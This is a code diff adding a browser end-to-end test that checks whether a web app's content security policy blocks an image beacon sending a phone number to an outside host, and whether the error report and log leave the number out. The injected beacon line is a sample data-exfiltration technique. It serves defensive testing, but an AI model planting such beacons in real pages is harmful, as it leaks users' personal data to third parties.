@@ -156,3 +156,22 @@ test('a list leaves unmasked only once another person agrees, and each order in 
   const look = rows(auditor, 'Access log').filter({ hasText: 'In a file: name, phone' })
   await expect(look).toContainText('Letter 12/2026 of the court')
 })
+
+test('what the content security policy refuses is told in the error log and to the server, without what its address carries', async ({
+  browser,
+}) => {
+  const storageState = await product.signedIn(browser, 'auditor@lumbung.test')
+  const page = await (await browser.newContext({ baseURL: product.address, storageState })).newPage()
+  await page.goto('/changePassword/index')
+  await expect(page.locator('nav').first()).toBeVisible()
+  const report = page.waitForRequest('**/api/utils/report_error')
+  await page.evaluate(() => {
+    new Image().src = 'https://elsewhere.test/pixel?phone=081234567890'
+  })
+  const { message, info } = (await report).postDataJSON() as Record<string, string>
+  expect(message).toBe('The content security policy refused img-src')
+  expect(info).toContain('https://elsewhere.test/pixel')
+  expect(info).not.toContain('081234567890')
+  await page.getByRole('button', { name: /^Error log/ }).click()
+  await expect(page.getByRole('dialog', { name: 'Error log' })).toContainText('refused img-src')
+})
